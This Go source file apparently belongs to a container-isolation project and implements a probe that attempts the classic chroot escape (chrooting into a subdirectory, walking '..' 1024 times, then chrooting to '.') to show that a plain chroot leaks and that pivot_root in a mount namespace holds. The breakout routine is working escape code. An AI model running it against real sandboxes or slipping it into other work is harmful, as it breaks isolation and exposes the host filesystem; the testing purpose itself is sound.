package main

// The classic chroot escape, which stage 01 suffers and pivot_root in a
// mount namespace (stage 02) cures. It needs CAP_SYS_CHROOT, which root in a
// plain chroot has.

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

// cmdEscape tries to break out of the current root and reports whether the
// root it ends in differs from the one it started in. Failing to escape is a
// valid result: it exits 0 either way.
func cmdEscape(args []string) error {
	pos, flags, err := parseFlags(args, nil, []string{"check"})
	if err != nil {
		return err
	}
	if len(pos) != 0 {
		return usagef("takes no positional arguments")
	}
	before, err := rootID()
	if err != nil {
		return err
	}
	escErr := breakOut()
	after, err := rootID()
	if err != nil {
		return err
	}
	emit("root_before", before)
	emit("root_after", after)
	emit("escaped", escErr == nil && after != before)
	if escErr != nil {
		emit("error", escErr)
	}
	if check, ok := flags["check"]; ok {
		_, err := os.Lstat(check)
		emit("check", fmt.Sprintf("%s seen=%t", check, err == nil))
	}
	emit("ls_root", listRoot())
	return nil
}

// breakOut chroots into a fresh subdirectory without changing directory.
// chroot(2) moves the root but not the working directory, which is now
// outside the root; the kernel stops ".." only at the current root or at the
// top of the mount namespace, and the walk up from outside never meets the
// root. So 1024 times ".." reaches the top, and chroot(".") makes it the root.
// After pivot_root the top of the mount namespace is the container's root:
// the walk ends where it began.
func breakOut() error {
	dirFd, dir, name, err := makeEscapeDir()
	if err != nil {
		return err
	}
	// After the escape the directory's old path means nothing; the fd opened
	// before still names its parent.
	defer unix.Close(dirFd)
	defer unix.Unlinkat(dirFd, name, unix.AT_REMOVEDIR)

	if err := unix.Chdir("/"); err != nil {
		return fmt.Errorf("chdir /: %w", err)
	}
	inner := filepath.Join(dir, name)
	if err := unix.Chroot(inner); err != nil {
		return fmt.Errorf("chroot %s: %w", inner, err)
	}
	for i := 0; i < 1024; i++ {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("chdir ..: %w", err)
		}
	}
	if err := unix.Chroot("."); err != nil {
		return fmt.Errorf("chroot .: %w", err)
	}
	return unix.Chdir("/")
}

// makeEscapeDir creates the directory to chroot into, in "/" or, when the
// root is read-only, in /tmp, and opens its parent.
func makeEscapeDir() (dirFd int, dir, name string, err error) {
	for _, dir = range []string{"/", "/tmp"} {
		var path string
		path, err = os.MkdirTemp(dir, ".probe-escape-")
		if err != nil {
			continue
		}
		dirFd, err = unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			os.Remove(path)
			return -1, "", "", fmt.Errorf("open %s: %w", dir, err)
		}
		return dirFd, dir, filepath.Base(path), nil
	}
	return -1, "", "", err
}

// rootID identifies the current root directory as "DEV:INODE" (st_dev as
// one decimal number).
func rootID() (string, error) {
	var st unix.Stat_t
	if err := unix.Stat("/", &st); err != nil {
		return "", fmt.Errorf("stat /: %w", err)
	}
	return fmt.Sprintf("%d:%d", st.Dev, st.Ino), nil
}

// listRoot names what is in "/", sorted, so a test can tell a busybox
// rootfs from the host's root at a glance.
func listRoot() string {
	entries, err := os.ReadDir("/")
	if err != nil {
		return ""
	}
	names := make([]string, len(entries))
	for i, e := range entries {
		names[i] = e.Name()
	}
	return strings.Join(names, ",")
}
